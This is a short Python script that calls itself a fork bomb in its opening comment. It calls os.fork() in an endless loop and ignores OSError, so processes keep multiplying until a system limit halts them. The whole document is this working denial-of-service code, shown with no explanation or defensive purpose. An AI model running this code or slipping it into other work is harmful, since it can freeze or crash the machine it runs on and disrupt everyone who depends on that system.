# ends: limit
# A fork bomb that nothing but its limit ends.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
